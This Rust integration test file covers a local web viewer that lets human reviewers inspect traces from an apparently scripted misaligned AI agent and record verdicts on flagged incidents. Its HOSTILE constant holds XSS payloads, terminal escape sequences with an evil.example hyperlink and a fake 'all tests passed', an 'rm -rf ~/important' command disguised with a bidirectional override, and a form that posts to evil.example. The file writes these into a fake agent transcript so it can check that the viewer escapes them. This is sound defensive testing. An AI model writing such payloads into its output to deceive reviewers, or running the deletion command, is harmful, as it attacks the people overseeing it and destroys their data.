//! `perimeter view`: the workbench over HTTP and in headless Chromium:
//! who it lets in, what its pages show, decisions that survive `kill -9`,
//! and hostile transcripts that are shown, never run.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::sync::OnceLock;

use crate::{TempDir, perimeter, render_url_in_chromium, run_ok};

/// A misaligned run, a scan of its traces and its incident catalogue.
fn material() -> &'static Path {
    static DIR: OnceLock<PathBuf> = OnceLock::new();
    DIR.get_or_init(|| {
        let dir = std::env::temp_dir().join(format!("perimeter-test-view-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        run_ok("scripted:misaligned", &dir.join("run"), &[]);
        let o = perimeter()
            .arg("scan")
            .arg(dir.join("run/episodes"))
            .args(["--format", "json", "--out"])
            .arg(dir.join("scan.json"))
            .output()
            .unwrap();
        assert!(o.status.code().is_some_and(|c| c <= 1));
        let o = perimeter()
            .args(["incidents", "collect"])
            .arg(dir.join("run"))
            .args(["--include-reference", "--out"])
            .arg(dir.join("incidents.json"))
            .output()
            .unwrap();
        assert!(o.status.success());
        dir
    })
}

/// A running `perimeter view`, killed when dropped.
struct Viewer {
    child: Child,
    port: u16,
    token: String,
    stderr: PathBuf,
}

impl Viewer {
    fn start(paths: &[&Path], decisions: &Path, reviewer: Option<&str>) -> Viewer {
        let stderr = decisions.with_extension("stderr");
        let mut c = perimeter();
        c.arg("view").args(paths).arg("--decisions").arg(decisions);
        if let Some(r) = reviewer {
            c.args(["--reviewer", r]);
        }
        let mut child = c
            .stdout(Stdio::piped())
            .stderr(std::fs::File::create(&stderr).unwrap())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
        let url = line.trim();
        let rest = url.strip_prefix("http://127.0.0.1:").unwrap_or_else(|| panic!("{url:?}"));
        let (port, token) = rest.split_once("/?token=").unwrap();
        Viewer { child, port: port.parse().unwrap(), token: token.into(), stderr }
    }

    fn url(&self, next: &str) -> String {
        format!("http://127.0.0.1:{}/?token={}&next={next}", self.port, self.token)
    }

    /// A request with the given headers; the status, the head and the body.
    fn send(&self, method: &str, path: &str, extra: &str, body: &str) -> (u16, String, String) {
        let mut s = TcpStream::connect(("127.0.0.1", self.port)).unwrap();
        write!(
            s,
            "{method} {path} HTTP/1.1\r\n{extra}Connection: close\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
        .unwrap();
        let mut out = Vec::new();
        s.read_to_end(&mut out).unwrap();
        let out = String::from_utf8_lossy(&out).into_owned();
        let (head, body) = out.split_once("\r\n\r\n").unwrap();
        let status = head.split(' ').nth(1).unwrap().parse().unwrap();
        (status, head.to_lowercase(), body.to_owned())
    }

    fn get(&self, path: &str) -> (u16, String, String) {
        let extra =
            format!("Host: 127.0.0.1:{}\r\nCookie: perimeter_view={}\r\n", self.port, self.token);
        self.send("GET", path, &extra, "")
    }

    fn post(&self, form: &[(&str, &str)]) -> (u16, String, String) {
        let body: Vec<String> =
            form.iter().map(|(k, v)| format!("{}={}", encode(k), encode(v))).collect();
        let extra = format!(
            "Host: 127.0.0.1:{}\r\nCookie: perimeter_view={}\r\nOrigin: http://127.0.0.1:{}\r\nContent-Type: application/x-www-form-urlencoded\r\n",
            self.port, self.token, self.port
        );
        self.send("POST", "/decide", &extra, &body.join("&"))
    }

    fn kill(mut self) {
        self.child.kill().unwrap();
        self.child.wait().unwrap();
    }
}

impl Drop for Viewer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' => (b as char).to_string(),
            b => format!("%{b:02X}"),
        })
        .collect()
}

/// The `href`s of a page that lead to its own pages.
fn links(page: &str) -> Vec<String> {
    page.match_indices("href=\"")
        .map(|(at, _)| {
            let rest = &page[at + 6..];
            rest[..rest.find('"').unwrap()].replace("&amp;", "&")
        })
        .filter(|l| l.starts_with('/'))
        .collect()
}

#[test]
fn the_workbench_lets_in_the_token_holder_only_and_every_page_it_links_opens() {
    let d = TempDir::new("view-pages");
    let m = material();
    let v = Viewer::start(&[m], &d.path().join("decisions.jsonl"), None);
    // No token, a wrong one, a host name that is not loopback's.
    let anon = format!("Host: 127.0.0.1:{}\r\n", v.port);
    assert_eq!(v.send("GET", "/", &anon, "").0, 403);
    assert_eq!(v.send("GET", "/?token=0000", &anon, "").0, 403);
    let rebinding =
        format!("Host: evil.example:{}\r\nCookie: perimeter_view={}\r\n", v.port, v.token);
    assert_eq!(v.send("GET", "/", &rebinding, "").0, 421);
    let (status, head, _) = v.send("GET", &format!("/?token={}", v.token), &anon, "");
    assert_eq!(status, 303);
    assert!(
        head.contains("set-cookie: perimeter_view=")
            && head.contains("httponly")
            && head.contains("samesite=strict"),
        "{head}"
    );

    // Every page reachable from the index opens, under the policy, with no script.
    let mut seen = std::collections::BTreeSet::new();
    let mut todo = vec!["/".to_owned()];
    while let Some(path) = todo.pop() {
        if !seen.insert(path.clone()) || seen.len() > 400 {
            continue;
        }
        let (status, head, body) = v.get(&path);
        assert_eq!(status, 200, "{path}: {body}");
        assert!(head.contains("content-security-policy: default-src 'none'"), "{path}");
        if head.contains("text/html") && !path.contains("/file") {
            assert!(!body.contains("<script"), "{path}");
            // Only run, scan and incident pages and one episode per run.
            for l in links(&body) {
                let episode = l.contains("/ep/");
                if !episode || l.ends_with("/ep/0") || l.contains("ep/0?") {
                    todo.push(l);
                }
            }
        }
    }
    for kind in
        ["/run/0", "/run/0/ep/0", "/scan/0", "/scan/0/s/0", "/incidents/0", "/search", "/decisions"]
    {
        assert!(seen.iter().any(|s| s.starts_with(kind)), "{kind} never linked: {seen:?}");
    }
    // An episode with a label: both accounts, the evidence marked.
    let (_, _, index) = v.get("/run/0");
    let labelled = links(&index).into_iter().find(|l| l.contains("/ep/")).unwrap();
    let (_, _, page) = v.get(&labelled);
    assert!(page.contains("The agent's account beside what the sandbox saw"), "{page}");
    assert!(page.contains("class=\"ev\"") && page.contains("hash chain verified"));
    assert!(page.contains("class=\"agent\"><b>call") && page.contains("class=\"seen\"><b>exec"));
    // Read-only without a reviewer.
    let (status, _, body) = v.post(&[
        ("token", &v.token.clone()),
        ("kind", "incident"),
        ("key", "k"),
        ("id", "INC-001"),
        ("verdict", "confirm"),
        ("note", "x"),
    ]);
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("--reviewer"));
    render_url_in_chromium(&v.url(&labelled), "view-episode.png");
    render_url_in_chromium(&v.url("/incidents/0"), "view-incidents.png");
}

#[test]
fn decisions_are_attributed_kept_across_kill_9_and_a_torn_last_line_is_dropped() {
    let d = TempDir::new("view-decide");
    let m = material();
    let journal = d.path().join("decisions.jsonl");
    let v = Viewer::start(&[m], &journal, Some("A. Reviewer"));
    let (_, _, page) = v.get("/run/0/ep/0");
    let field = |name: &str| {
        let at = page.find(&format!("name=\"{name}\" value=\"")).unwrap() + name.len() + 15;
        page[at..at + page[at..].find('"').unwrap()].to_owned()
    };
    let (head, episode, class) = (field("trace_head"), field("episode"), field("class"));
    let token = v.token.clone();
    let form = |verdict: &'static str, note: &'static str| {
        vec![
            ("token", token.clone()),
            ("kind", "label".to_owned()),
            ("trace_head", head.clone()),
            ("episode", episode.clone()),
            ("class", class.clone()),
            ("verdict", verdict.to_owned()),
            ("note", note.to_owned()),
            ("back", "/run/0/ep/0".to_owned()),
        ]
    };
    let send = |f: Vec<(&str, String)>| {
        let f: Vec<(&str, &str)> = f.iter().map(|(k, v)| (*k, v.as_str())).collect();
        v.post(&f)
    };
    // Refused: no note, no token, another origin.
    assert_eq!(send(form("dismiss", "")).0, 400);
    let mut bad = form("dismiss", "x");
    bad[0].1 = "nope".into();
    assert_eq!(send(bad).0, 403);
    let extra = format!(
        "Host: 127.0.0.1:{}\r\nCookie: perimeter_view={}\r\nOrigin: http://evil.example\r\n",
        v.port, v.token
    );
    assert_eq!(v.send("POST", "/decide", &extra, "token=x").0, 403);

    let (status, head_, _) = send(form("dismiss", "the file was the user's own"));
    assert_eq!(status, 303);
    assert!(head_.contains("location: /run/0/ep/0"), "{head_}");
    let (_, _, page) = v.get("/run/0/ep/0");
    assert!(
        page.contains("<b>dismissed</b> by A. Reviewer")
            && page.contains("the file was the user&#39;s own"),
        "{page}"
    );
    // The page with the decision, as a browser renders it.
    render_url_in_chromium(&v.url("/run/0/ep/0"), "view-decided.png");
    let (_, _, csv) = v.get("/decisions.csv");
    assert!(csv.lines().nth(1).unwrap().contains("A. Reviewer"), "{csv}");

    // Acknowledged means on disk: killed at once, the decision is there.
    v.kill();
    let text = std::fs::read_to_string(&journal).unwrap();
    assert_eq!(text.lines().count(), 2, "{text}");
    let d1: formats::review::Decision = serde_json::from_str(text.lines().nth(1).unwrap()).unwrap();
    assert_eq!(
        (d1.n, d1.by.as_str(), d1.verdict),
        (1, "A. Reviewer", formats::review::Verdict::Dismiss)
    );

    // A line cut short by a crash is dropped when the journal is opened.
    std::fs::OpenOptions::new()
        .append(true)
        .open(&journal)
        .unwrap()
        .write_all(b"{\"n\":2,\"at\":\"2026-")
        .unwrap();
    let v = Viewer::start(&[m], &journal, Some("A. Reviewer"));
    let (_, _, index) = v.get("/");
    assert!(index.contains("cut short by a crash"), "{index}");
    let said = std::fs::read_to_string(&v.stderr).unwrap();
    assert!(said.contains("warning: a decision cut short by a crash was dropped"), "{said}");
    let (_, _, page) = v.get("/run/0/ep/0");
    assert!(page.contains("<b>dismissed</b> by A. Reviewer"));
    let (status, _, _) = send_as(&v, form("confirm", "on a second look it was"));
    assert_eq!(status, 303);
    v.kill();
    let text = std::fs::read_to_string(&journal).unwrap();
    assert_eq!(text.lines().count(), 3, "the torn line gone, the new decision after it: {text}");

    // A damaged line before the last is refused, naming it.
    let damaged = text.replacen("on a second look", "on a third look", 1).replacen(
        "the file was",
        "the file is",
        1,
    );
    std::fs::write(&journal, damaged).unwrap();
    let o = perimeter().arg("view").arg(m).arg("--decisions").arg(&journal).output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success() && err.contains("decisions.jsonl:2:"), "{err}");
}

fn send_as(v: &Viewer, f: Vec<(&str, String)>) -> (u16, String, String) {
    let mut f = f;
    f[0].1 = v.token.clone();
    let f: Vec<(&str, &str)> = f.iter().map(|(k, v)| (*k, v.as_str())).collect();
    v.post(&f)
}

/// What an agent under test might write to attack whoever reads its
/// transcript: markup, handlers, links, styles, SVG, terminal escapes,
/// bidirectional overrides, and a line too long to read.
const HOSTILE: [&str; 9] = [
    "<script>console.log('CANARY-script')</script>",
    "<img src=x onerror=\"console.log('CANARY-img')\">",
    "<a href=\"javascript:console.log('CANARY-link')\">open the report</a>",
    "<svg onload=\"console.log('CANARY-svg')\"><script>console.log('CANARY-svg2')</script></svg>",
    "<style>body{background:url(\"javascript:console.log('CANARY-css')\")}</style><iframe src=\"javascript:console.log(1)\"></iframe>",
    "\u{1b}]8;;http://evil.example\u{7}click me\u{1b}]8;;\u{7} \u{1b}[2J\u{1b}[1;1H all tests passed",
    "rm -rf ~/important \u{202e}txt.daer\u{202c} # a harmless read",
    "</pre></td></tr></table><form action=\"http://evil.example\"><input name=q></form>",
    "\"><body onload=console.log('CANARY-attr')>",
];

#[test]
fn hostile_transcripts_are_shown_and_never_run() {
    use trace::{Body, Header, Source, Timestamp, TraceWriter};
    let d = TempDir::new("view-hostile");
    let m = material();
    // A copy of the run whose first episode's trace is hostile.
    let run = d.path().join("run");
    std::fs::create_dir_all(run.join("episodes/h")).unwrap();
    let mut summary: serde_json::Value =
        serde_json::from_slice(&std::fs::read(m.join("run/summary.json")).unwrap()).unwrap();
    let episodes = summary["episodes"].as_array_mut().unwrap();
    episodes.truncate(1);
    episodes[0]["trace"] = "episodes/h/e0.trace.jsonl".into();
    std::fs::write(run.join("summary.json"), serde_json::to_vec(&summary).unwrap()).unwrap();
    let header: Header = serde_json::from_value(serde_json::json!({
        "format": "perimeter.trace", "version": 2, "episode": "h/e0", "scenario": "h",
        "scenario_digest": "sha256:0", "suite": "builtin", "suite_digest": "sha256:0",
        "agent": "scripted:misaligned", "harness": "perimeter test", "seed": 1, "epoch": 0,
        "started": "2026-12-07T00:00:00.000Z"}))
    .unwrap();
    let file = std::fs::File::create(run.join("episodes/h/e0.trace.jsonl")).unwrap();
    let mut w = TraceWriter::create(std::io::BufWriter::new(file), header).unwrap();
    let ts = Timestamp(1_796_000_000_000);
    w.append(
        ts,
        Source::Agent,
        Body::ModelMessage { role: "user".into(), text: "do the task".into(), reasoning: None },
    )
    .unwrap();
    for (n, h) in HOSTILE.iter().enumerate() {
        let id = format!("c{n}");
        w.append(
            ts,
            Source::Agent,
            Body::ModelMessage {
                role: "assistant".into(),
                text: (*h).into(),
                reasoning: Some((*h).into()),
            },
        )
        .unwrap();
        w.append(
            ts,
            Source::Agent,
            Body::ToolCall {
                call_id: id.clone(),
                tool: (*h).into(),
                input: serde_json::json!({"command": h}),
            },
        )
        .unwrap();
        w.append(
            ts,
            Source::Agent,
            Body::ToolResult {
                call_id: id,
                output: (*h).into(),
                exit_code: Some(0),
                is_error: false,
            },
        )
        .unwrap();
    }
    let huge = "A".repeat(2 << 20);
    w.append(
        ts,
        Source::Agent,
        Body::ToolResult { call_id: "big".into(), output: huge, exit_code: None, is_error: false },
    )
    .unwrap();
    w.append(ts, Source::Agent, Body::Submission { answer: HOSTILE.join("\n") }).unwrap();
    w.finish(ts, "submitted").unwrap();
    // The same transcript scanned, as a real session would be.
    let o = perimeter()
        .arg("scan")
        .arg(run.join("episodes"))
        .args(["--format", "json", "--out"])
        .arg(d.path().join("scan.json"))
        .output()
        .unwrap();
    assert!(o.status.code().is_some_and(|c| c <= 1), "{:?}", crate::text(&o));

    let v = Viewer::start(
        &[&run, &d.path().join("scan.json")],
        &d.path().join("decisions.jsonl"),
        Some("r"),
    );
    for page in ["/run/0/ep/0", "/scan/0/s/0"] {
        let (status, _, body) = v.get(page);
        assert_eq!(status, 200, "{page}");
        for tag in [
            "<script",
            "<img",
            "<svg",
            "<iframe",
            "<style",
            "<body onload",
            "<a href=\"javascript",
            "src=\"javascript",
            "action=\"http://evil",
        ] {
            assert!(!body.contains(tag), "{page}: {tag} reached the page as markup");
        }
        assert!(
            body.contains("&lt;script&gt;console.log(&#39;CANARY-script&#39;)&lt;/script&gt;"),
            "{page}: the attack is shown"
        );
        assert!(
            body.contains("⟨U+202E⟩") && body.contains("⟨U+001B⟩"),
            "{page}: invisible characters are named"
        );
        render_url_in_chromium(
            &v.url(page),
            &format!("view-hostile{}.png", page.replace('/', "-")),
        );
    }
    let (_, _, episode) = v.get("/run/0/ep/0");
    assert!(
        episode.contains("more characters") && episode.contains("the whole event"),
        "a huge line is cut, with the way to all of it"
    );
}

#[test]
fn a_decision_on_an_incident_becomes_an_override_of_the_catalogue() {
    let d = TempDir::new("view-incident");
    let m = material();
    let journal = d.path().join("decisions.jsonl");
    let v = Viewer::start(&[&m.join("incidents.json")], &journal, Some("B. Reviewer"));
    let (_, _, page) = v.get("/incidents/0");
    let key_at = page.find("name=\"key\" value=\"").unwrap() + 18;
    let key = page[key_at..key_at + page[key_at..].find('"').unwrap()].to_owned();
    let token = v.token.clone();
    let regrade = [
        ("token", token.as_str()),
        ("kind", "incident"),
        ("key", key.as_str()),
        ("id", "INC-001"),
        ("verdict", "regrade"),
        ("overreach", "1:0.2"),
        ("deception", "0"),
        ("note", "less than the rules say"),
        ("back", "/incidents/0"),
    ];
    let mut elsewhere = regrade;
    elsewhere[2].1 = "trace:sha256:0000";
    assert_eq!(v.post(&elsewhere).0, 400, "a decision on nothing the app shows");
    assert_eq!(v.post(&regrade).0, 303);
    let (_, _, page) = v.get("/incidents/0");
    assert!(page.contains("<b>re-graded</b> by B. Reviewer"), "{page}");
    v.kill();
    let out = d.path().join("cat.json");
    std::fs::copy(m.join("incidents.json"), &out).unwrap();
    for _ in 0..2 {
        let o = perimeter()
            .args(["incidents", "collect"])
            .arg(m.join("run"))
            .args(["--include-reference", "--out"])
            .arg(&out)
            .arg("--decisions")
            .arg(&journal)
            .output()
            .unwrap();
        assert!(o.status.success(), "{:?}", crate::text(&o));
    }
    let c: formats::incident::Catalogue =
        serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap();
    let i = c.incidents.iter().find(|i| i.key == key).unwrap();
    assert_eq!(i.overrides.len(), 1, "recorded once, however often collected");
    let (g, by) = i.in_force(&c.graders).unwrap();
    assert_eq!(
        (by, g.overreach.level, g.overreach.severity, g.deception.level),
        ("human", 1, 0.2, 0)
    );
    assert_eq!(i.overrides[0].by, "B. Reviewer");
}

#[test]
fn a_reviewer_decides_by_clicking_in_chromium() {
    let d = TempDir::new("view-click");
    let m = material();
    let journal = d.path().join("decisions.jsonl");
    let v = Viewer::start(&[m], &journal, Some("C. Clicker"));
    let chromium = ["chromium", "chromium-browser"]
        .into_iter()
        .find(|b| {
            std::process::Command::new(b)
                .arg("--version")
                .output()
                .is_ok_and(|o| o.status.success())
        })
        .expect("chromium is not installed: the README's test command installs it");
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/fixtures/cdp_click.py");
    // The browser opens the printed address, lands on the episode, fills
    // in the first label's note and clicks "dismiss".
    let o = std::process::Command::new("python3")
        .args([script, chromium, &v.url("/run/0/ep/0"), "seen in a browser", "dismiss"])
        .output()
        .unwrap();
    let (out, err) = crate::text(&o);
    assert!(o.status.success(), "{out}\n{err}");
    let page: serde_json::Value = serde_json::from_str(out.trim()).unwrap();
    assert_eq!(page["path"], "/run/0/ep/0", "back on the episode: {page}");
    assert!(page["text"].as_str().unwrap().contains("dismissed by C. Clicker"), "{page}");
    let text = std::fs::read_to_string(&journal).unwrap();
    let d1: formats::review::Decision = serde_json::from_str(text.lines().nth(1).unwrap()).unwrap();
    assert_eq!(
        (d1.by.as_str(), d1.note.as_str(), d1.verdict),
        ("C. Clicker", "seen in a browser", formats::review::Verdict::Dismiss)
    );
}
